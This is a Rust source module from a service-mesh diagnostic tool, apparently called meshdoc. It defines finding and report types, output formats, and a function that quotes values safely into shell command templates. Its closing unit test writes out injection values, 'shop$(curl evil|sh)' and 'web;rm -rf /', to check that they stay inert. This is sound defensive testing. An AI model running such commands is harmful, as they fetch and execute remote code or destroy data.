//! One finding model, many renderers.
//!
//! Every command produces a [`Report`]; renderers turn it into table,
//! markdown, json, yaml, sarif or junit. JSON is the contract: an object with
//! `"version"` and `"findings"` in rank order. Human formats strip control
//! sequences from evidence before it reaches a terminal.

pub mod exposition;
pub mod github;
pub mod junit;
pub mod markdown;
pub mod sanitize;
pub mod sarif;
pub mod table;
pub mod timeline;
pub mod triage;

use crate::evidence::ReadStats;
use crate::facts::ObjRef;
use crate::rules::{Mesh, Severity, Step};
use serde::Serialize;
use std::collections::BTreeMap;

/// Version of the JSON/YAML output contract.
pub const REPORT_VERSION: u32 = 1;

/// How sure meshdoc is of a finding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Confidence {
    /// Only a bare symptom matched: a candidate cause to check.
    Candidate,
    Low,
    Medium,
    High,
}

/// One ranked root cause with the evidence behind it.
#[derive(Debug, Clone, Serialize)]
pub struct Finding {
    pub rank: usize,
    pub id: String,
    pub title: String,
    pub mesh: Mesh,
    pub severity: Severity,
    pub score: f64,
    pub confidence: Confidence,
    pub summary: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub question: Option<String>,
    pub signals: Vec<SignalSummary>,
    pub evidence: Vec<EvidenceLine>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub objects: Vec<ObjRef>,
    /// Where the finding points (`meshdoc check`): the offending object with
    /// file:line:column (of the field when known), or kind/namespace/name
    /// for live objects.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub location: Option<ObjRef>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub targets: Vec<TargetCount>,
    pub confirm: Vec<Step>,
    pub fix: Vec<Step>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub patches: Vec<String>,
    /// The root cause this finding is a consequence of, when one was found.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub explained_by: Option<String>,
    /// The change this cause's errors followed, which gained it weight.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub trigger: Option<timeline::Trigger>,
    /// The last change of the object the finding points at (`check
    /// --cluster`: its newest managedFields write, or its creation).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub changed: Option<crate::facts::changes::Change>,
    #[serde(skip)]
    pub prior: f64,
}

impl Finding {
    /// The baseline fingerprint (`check --baseline`, SARIF's
    /// `partialFingerprints`): rule id and object identity (`Kind/ns/name`),
    /// not line numbers, so edits elsewhere in a file do not churn it.
    pub fn fingerprint(&self) -> String {
        match &self.location {
            Some(l) => format!("{}:{l}", self.id),
            None => self.id.clone(),
        }
    }
}

/// One supporting line, deduplicated with a count.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct EvidenceLine {
    pub signal: String,
    pub source: String,
    pub text: String,
    pub count: u64,
}

#[derive(Debug, Clone, Serialize)]
pub struct SignalSummary {
    pub name: String,
    pub family: String,
    pub weight: f64,
    pub count: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub first_seen: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub last_seen: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
    /// `first_seen`/`last_seen` as instants, when they are times.
    #[serde(skip)]
    pub first_at: Option<crate::evidence::time::At>,
    #[serde(skip)]
    pub last_at: Option<crate::evidence::time::At>,
    /// The last success (a 1xx–3xx access line without flags) in the source
    /// of the first hit, before it: the errors began after it.
    #[serde(skip)]
    pub ok_before: Option<crate::evidence::time::At>,
}

/// An upstream cluster, authority or service, with how often it appeared.
#[derive(Debug, Clone, Serialize)]
pub struct TargetCount {
    pub target: String,
    pub count: u64,
}

/// Something meshdoc could not look at, and which rules that left unevaluated.
#[derive(Debug, Clone, Serialize)]
pub struct Missing {
    pub what: String,
    pub reason: String,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub rules: Vec<String>,
}

/// Everything a command prints.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    pub version: u32,
    pub command: String,
    /// What was asked (`503`, `pod/web-1`, a file list).
    pub input: String,
    pub findings: Vec<Finding>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub read: Option<ReadStats>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub missing: Vec<Missing>,
    /// Free-form notes for humans (how the input was understood).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub notes: Vec<String>,
    /// The request path through the mesh, with the hop where the top finding
    /// sits marked (live diagnosis only).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub path: Option<Vec<Hop>>,
    /// Changes and error onsets on one time axis (`diagnose`, `timeline`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeline: Option<timeline::Timeline>,
    /// Set when the command could not do its job at all (`check` read no
    /// Kubernetes object): every format says so instead of "no findings".
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<ReportError>,
}

/// Why a run produced no answer at all (exit 2), e.g. `check` with empty
/// stdin: `{"kind": "nothing-read", "message": "read 0 Kubernetes objects …"}`.
#[derive(Debug, Clone, Serialize)]
pub struct ReportError {
    pub kind: String,
    pub message: String,
}

/// One hop of a request path: `client app`, `client proxy`, `server proxy :4143`, `server app`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Hop {
    pub name: String,
    /// Who or what this hop is in the cluster (`pod shop/web-1`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub detail: Option<String>,
    /// The top finding sits here.
    pub marked: bool,
}

impl Report {
    pub fn new(command: &str, input: impl Into<String>, findings: Vec<Finding>) -> Self {
        Report {
            version: REPORT_VERSION,
            command: command.into(),
            input: input.into(),
            findings,
            read: None,
            missing: Vec::new(),
            notes: Vec::new(),
            path: None,
            timeline: None,
            error: None,
        }
    }

    /// `true` when any finding is at or above `threshold`.
    pub fn fails(&self, threshold: Severity) -> bool {
        self.findings.iter().any(|f| f.severity >= threshold)
    }
}

/// Fills `{namespace}`-style placeholders; unknown ones become `<namespace>`.
pub fn render_steps(steps: &[Step], vars: &BTreeMap<String, String>) -> Vec<Step> {
    steps
        .iter()
        .map(|s| Step {
            text: fill(&s.text, vars),
            command: s.command.as_ref().map(|c| fill_command(c, vars)),
        })
        .collect()
}

/// Fills a shell command: every value is quoted for POSIX sh in the place it
/// lands (bare, inside the template's `'…'` or `"…"`), so a namespace named
/// `shop$(curl …|sh)` stays one inert word an engineer can paste.
pub fn fill_command(template: &str, vars: &BTreeMap<String, String>) -> String {
    #[derive(Clone, Copy, PartialEq)]
    enum Q {
        None,
        Single,
        Double,
    }
    let mut out = String::with_capacity(template.len());
    let mut q = Q::None;
    let mut rest = template;
    while let Some(c) = rest.chars().next() {
        if c == '{' {
            let after = &rest[1..];
            if let Some(close) = after.find('}').filter(|&n| {
                n > 0
                    && after[..n]
                        .bytes()
                        .all(|b| b.is_ascii_lowercase() || b == b'_')
            }) {
                let key = &after[..close];
                match vars.get(key) {
                    Some(v) => {
                        let v = sanitize::strip_controls(v);
                        match q {
                            Q::None => out.push_str(&sanitize::sh_word(&v)),
                            Q::Single => out.push_str(&v.replace('\'', "'\\''")),
                            Q::Double => {
                                for ch in v.chars() {
                                    if matches!(ch, '"' | '\\' | '$' | '`') {
                                        out.push('\\');
                                    }
                                    out.push(ch);
                                }
                            }
                        }
                    }
                    None => {
                        out.push('<');
                        out.push_str(key);
                        out.push('>');
                    }
                }
                rest = &after[close + 1..];
                continue;
            }
        }
        q = match (q, c) {
            (Q::None, '\'') => Q::Single,
            (Q::Single, '\'') => Q::None,
            (Q::None, '"') => Q::Double,
            (Q::Double, '"') => Q::None,
            (q, _) => q,
        };
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    out
}

/// Replaces `{name}` with its value, or `<name>` when unknown.
pub fn fill(template: &str, vars: &BTreeMap<String, String>) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        match after.find('}') {
            Some(close)
                if after[..close]
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b == b'_')
                    && close > 0 =>
            {
                let key = &after[..close];
                match vars.get(key) {
                    Some(v) => out.push_str(v),
                    None => {
                        out.push('<');
                        out.push_str(key);
                        out.push('>');
                    }
                }
                rest = &after[close + 1..];
            }
            _ => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Output formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Table,
    Json,
    Yaml,
    Markdown,
    Sarif,
    Junit,
    Github,
}

/// Renders a report in a machine format (json, yaml); `None` for human ones.
pub fn render_machine(report: &Report, format: Format) -> Option<String> {
    match format {
        Format::Json => Some(serde_json::to_string_pretty(report).unwrap_or_default() + "\n"),
        Format::Yaml => Some(serde_saphyr::to_string(report).unwrap_or_default()),
        _ => None,
    }
}

#[cfg(test)]
mod fill_tests {
    use super::*;

    #[test]
    fn hostile_values_stay_inert_in_commands() {
        let mut v = BTreeMap::new();
        v.insert("namespace".to_string(), "shop$(curl evil|sh)".to_string());
        v.insert("pod".to_string(), "web;rm -rf /".to_string());
        v.insert("service".to_string(), "x'y".to_string());
        assert_eq!(
            fill_command("kubectl logs {pod} -n {namespace} -c istio-proxy", &v),
            "kubectl logs 'web;rm -rf /' -n 'shop$(curl evil|sh)' -c istio-proxy"
        );
        // Inside the template's own single quotes, a quote cannot close them.
        assert_eq!(
            fill_command(
                "istioctl pc endpoint --cluster 'outbound|80||{service}.{namespace}'",
                &v
            ),
            "istioctl pc endpoint --cluster 'outbound|80||x'\\''y.shop$(curl evil|sh)'"
        );
        // Inside double quotes, `$` and backticks are escaped.
        assert_eq!(
            fill_command("grep \"{namespace}\"", &v),
            "grep \"shop\\$(curl evil|sh)\""
        );
        // Safe names stay bare; unknown values remain placeholders.
        let mut ok = BTreeMap::new();
        ok.insert("namespace".to_string(), "shop".to_string());
        assert_eq!(
            fill_command("kubectl get pods -n {namespace} {pod}", &ok),
            "kubectl get pods -n shop <pod>"
        );
    }
}
